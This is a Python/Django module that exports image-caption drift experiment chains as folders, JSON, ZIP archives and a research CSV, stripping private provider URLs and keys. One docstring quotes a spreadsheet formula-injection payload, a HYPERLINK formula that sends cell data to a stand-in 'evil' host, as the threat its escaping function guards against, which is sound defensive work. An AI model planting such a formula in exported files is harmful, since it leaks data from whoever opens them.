"""Chain data in the shapes people take away: the experiments' folder, JSON and a ZIP.

One metadata record per step, shared by the export command, the JSON document and
the ZIP, so all three always describe a step the same way. Nothing here writes to
the database; callers pass the steps they fetched (in one query) and decide who may
see the chain.
"""

from __future__ import annotations

import hashlib
import json
import tempfile
import zipfile
from collections.abc import Callable, Iterable
from datetime import datetime
from pathlib import Path, PurePosixPath
from typing import IO

from django.core.exceptions import ObjectDoesNotExist
from django.urls import reverse

from .metrics.drift import calibrate
from .models import Baseline, Chain, Step
from .selectors.research import IMAGE_KIND, caption_kind

# Where a provider is reached (any role's server) is the operator's business, not the public's:
# neither a URL nor a host, key or workflow path leaves the site.
PRIVATE_SETTING_SUFFIXES = ("url", "host", "_server", "key", "token", "secret", "workflow")
# Past this size a ZIP being built moves from memory to a temporary file.
ZIP_SPOOL_BYTES = 16 * 1024 * 1024
# Built archives, one per chain version (chains/services/exports.py).
ARCHIVE_FOLDER = "exports/{chain_id}/"


def public_provider_settings(snapshot: dict) -> dict:
    """Models and parameters, without any server address, key or path; nested roles too."""
    public = {}
    for key, value in (snapshot or {}).items():
        if key.lower().endswith(PRIVATE_SETTING_SUFFIXES):
            continue
        public[key] = public_provider_settings(value) if isinstance(value, dict) else value
    return public


def step_metadata(*, step: Step, chain: Chain) -> dict:
    return {
        "iteration": step.index,
        "caption": step.caption,
        "prompt": step.paint_prompt,
        "revised_prompt": step.revised_prompt,
        "caption_model": step.caption_model,
        "image_model": step.image_model,
        "image_params": step.image_params,
        "embedding_model": step.embedding_model,
        "embedding_dimension": step.embedding_dimension,
        "mode": chain.mode,
        "detail": chain.detail,
        "timings_ms": {"paint": step.paint_ms, "caption": step.caption_ms, "embed": step.embed_ms},
        "usage": {
            "input_tokens": step.input_tokens,
            "output_tokens": step.output_tokens,
            "embedding_tokens": step.embedding_tokens,
            "images": step.images_generated,
            "estimated_cost_usd": str(step.estimated_cost),
        },
        "request_ids": {
            "caption": step.caption_request_id,
            "image": step.image_request_id,
            "embedding": step.embedding_request_id,
        },
    }


def chain_export_to_directory(*, chain: Chain, directory: Path) -> list[Path]:
    """Write original.jpg, image_<i>.jpg and metadata_<i>.json; returns the files written."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for step in chain.steps.published().order_by("index"):
        written.append(_copy_image(step, directory / _image_name(step)))
        metadata = directory / _metadata_name(step)
        metadata.write_bytes(_metadata_json(step=step, chain=chain))
        written.append(metadata)
    return written


def _image_name(step: Step) -> str:
    """Named by position, with the stored file's own extension (older steps kept WebP)."""
    extension = PurePosixPath(step.image.name).suffix or ".jpg"
    return f"original{extension}" if step.index == 0 else f"image_{step.index}{extension}"


def _metadata_name(step: Step) -> str:
    return f"metadata_{step.index}.json"


def _metadata_json(*, step: Step, chain: Chain) -> bytes:
    return _json_bytes(step_metadata(step=step, chain=chain))


def _json_bytes(document: dict) -> bytes:
    return json.dumps(document, indent=2).encode()


def _copy_image(step: Step, target: Path) -> Path:
    with step.image.open("rb") as source:
        target.write_bytes(source.read())
    return target


def chain_document(
    *, chain: Chain, steps: Iterable[Step], absolute_url: Callable[[str], str], parent: Chain | None = None
) -> dict:
    """The whole chain as plain JSON types, for people who study drift with their own tools.

    `absolute_url` (a request's `build_absolute_uri`) turns paths into links that
    still work once the document has left the site. `parent` is the chain it branched
    from when the reader may see it (chains.selectors.chains.chain_parent_for_viewer);
    otherwise the document does not name it.
    """
    return {
        "slug": chain.slug,
        "title": chain.title,
        "url": absolute_url(chain.get_absolute_url()),
        "mode": chain.mode,
        "detail": chain.detail,
        "theme": chain.theme,
        "target_length": chain.target_length,
        "status": chain.status,
        "seed": chain.seed,
        "provider": chain.provider,
        "provider_settings": public_provider_settings(chain.provider_settings),
        "error": chain.public_error,
        "created_at": _iso(chain.created_at),
        "started_at": _iso(chain.started_at),
        "finished_at": _iso(chain.finished_at),
        "usage": {
            "input_tokens": chain.input_tokens,
            "output_tokens": chain.output_tokens,
            "embedding_tokens": chain.embedding_tokens,
            "images": chain.images_generated,
            "estimated_cost_usd": str(chain.estimated_cost),
        },
        "drift": chain.drift,
        "parent": _parent(chain, parent),
        "steps": [_step_record(step=step, chain=chain, absolute_url=absolute_url) for step in steps],
    }


def _iso(moment: datetime | None) -> str | None:
    return moment.isoformat() if moment else None


def _parent(chain: Chain, parent: Chain | None) -> dict | None:
    if parent is None:
        return None
    fork_index = chain.fork_step.index if chain.fork_step_id else None
    return {"slug": parent.slug, "fork_step_index": fork_index}


def _step_record(*, step: Step, chain: Chain, absolute_url: Callable[[str], str]) -> dict:
    # The permalink is reversed from `chain`: step.get_absolute_url() would query each step's chain.
    permalink = reverse("gallery:step_detail", kwargs={"slug": chain.slug, "index": step.index})
    return {
        **step_metadata(step=step, chain=chain),
        "url": absolute_url(permalink),
        "created_at": _iso(step.created_at),
        "similarity_to_origin": step.similarity_to_origin,
        "similarity_to_previous": step.similarity_to_previous,
        "images": {
            "original": _file_url(step.image, absolute_url),
            "thumbnail_small": _file_url(step.thumbnail_small, absolute_url),
            "thumbnail_large": _file_url(step.thumbnail_large, absolute_url),
        },
    }


def _file_url(field, absolute_url: Callable[[str], str]) -> str | None:
    return absolute_url(field.url) if field else None


def archive_key(*, chain: Chain, steps: Iterable[Step], document: dict) -> str:
    """Where the ZIP of this version of the chain is kept: a digest of what it holds.

    Any change to the chain or a step (a caption redacted, a step added or re-run, the
    title) changes the document and so the key; links are left out of the digest (a
    signed S3 link changes on every request) and the stored image names go in.
    """
    stable = {
        **{key: value for key, value in document.items() if key not in ("url", "steps")},
        "steps": [
            {key: value for key, value in record.items() if key not in ("url", "images")}
            for record in document["steps"]
        ],
        "images": [step.image.name for step in steps],
    }
    digest = hashlib.sha256(json.dumps(stable, sort_keys=True, default=str).encode()).hexdigest()[:24]
    return f"{ARCHIVE_FOLDER.format(chain_id=chain.pk)}{chain.slug}-{digest}.zip"


def chain_zip(*, chain: Chain, steps: Iterable[Step], document: dict) -> IO[bytes]:
    """The experiments' folder plus chain.json as one archive, rewound and ready to stream.

    Spooled: small chains stay in memory, long ones move to a temporary file. WebP is
    already compressed, so images are stored as they are and only JSON is deflated.
    """
    spool = tempfile.SpooledTemporaryFile(max_size=ZIP_SPOOL_BYTES)
    with zipfile.ZipFile(spool, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("chain.json", _json_bytes(document))
        for step in steps:
            with step.image.open("rb") as source:
                archive.writestr(_image_name(step), source.read(), compress_type=zipfile.ZIP_STORED)
            archive.writestr(_metadata_name(step), _metadata_json(step=step, chain=chain))
    spool.seek(0)
    return spool


# --- the research export: every public step with its figures, one CSV row each ---------

RESEARCH_CSV_COLUMNS = (
    "chain_slug",
    "chain_title",
    "chain_url",
    "mode",
    "detail",
    "theme",
    "target_length",
    "status",
    "parent_slug",
    "step_index",
    "caption",
    "caption_model",
    "image_model",
    "embedding_model",
    "similarity_to_origin",
    "similarity_to_previous",
    "calibrated_similarity_to_origin",
    "calibrated_similarity_to_previous",
    "image_similarity_to_origin",
    "image_similarity_to_previous",
    "calibrated_image_similarity_to_origin",
    "atlas_x",
    "atlas_y",
    "attractor_id",
    "attractor_label",
    "chain_drift",
    "chain_calibrated_drift",
    "chain_half_life",
    "chain_convergence_step",
    "chain_image_drift",
    "chain_attractor_id",
    "chain_attractor_label",
    "chain_arrival_step",
)


def research_csv_rows(
    *, steps: Iterable[Step], baselines: dict[str, Baseline], parent_slugs: dict[int, str]
) -> Iterable[list]:
    """The header, then one row per step (steps with their chain, analysis and atlas
    point fetched; `parent_slugs` holds only chains visitors may see)."""
    yield list(RESEARCH_CSV_COLUMNS)
    for step in steps:
        row = _research_row(step, baselines=baselines, parent_slug=parent_slugs.get(step.chain.parent_id, ""))
        yield [spreadsheet_safe(cell) for cell in row]


# What spreadsheets read as the start of a formula (OWASP's list: =, +, -, @, tab, CR).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell):
    """Text that a spreadsheet would run as a formula, made inert with a leading quote.

    Titles, themes and captions are written by people and by models: a title of
    `=HYPERLINK("http://evil/?"&A1)` must open as text in whoever's spreadsheet
    (issue 12). Numbers stay numbers; the quote shows, which is the usual trade.
    """
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def _research_row(step: Step, *, baselines: dict[str, Baseline], parent_slug: str) -> list:
    chain = step.chain
    analysis = _related(chain, "analysis")
    point = _related(step, "atlas_point")
    caption_baseline = baselines.get(caption_kind(step.embedding_model))
    image_baseline = baselines.get(IMAGE_KIND)
    return [
        chain.slug,
        chain.title,
        chain.get_absolute_url(),
        chain.mode,
        chain.detail,
        chain.theme,
        chain.target_length,
        chain.status,
        parent_slug,
        step.index,
        step.caption,
        step.caption_model,
        step.image_model,
        step.embedding_model,
        _number(step.similarity_to_origin),
        _number(step.similarity_to_previous),
        _calibrated(step.similarity_to_origin, caption_baseline),
        _calibrated(step.similarity_to_previous, caption_baseline),
        _number(step.image_similarity_to_origin),
        _number(step.image_similarity_to_previous),
        _calibrated(step.image_similarity_to_origin, image_baseline),
        _number(point.x if point else None),
        _number(point.y if point else None),
        point.attractor_id if point and point.attractor_id else "",
        point.attractor.label if point and point.attractor_id else "",
        _number(chain.drift),
        _number(analysis.calibrated_drift if analysis else None),
        _blank(analysis.half_life if analysis else None),
        _blank(analysis.convergence_step if analysis else None),
        _number(analysis.image_drift if analysis else None),
        analysis.attractor_id if analysis and analysis.attractor_id else "",
        analysis.attractor.label if analysis and analysis.attractor_id else "",
        _blank(analysis.arrival_step if analysis else None),
    ]


def _related(instance, name: str):
    """A reverse one-to-one, or None where there is none (reading a missing one raises)."""
    try:
        return getattr(instance, name)
    except ObjectDoesNotExist:
        return None


def _number(value, digits: int = 5):
    return "" if value is None else round(float(value), digits)


def _calibrated(value, baseline: Baseline | None):
    return "" if value is None or baseline is None else _number(calibrate(value, baseline.mean))


def _blank(value):
    return "" if value is None else value
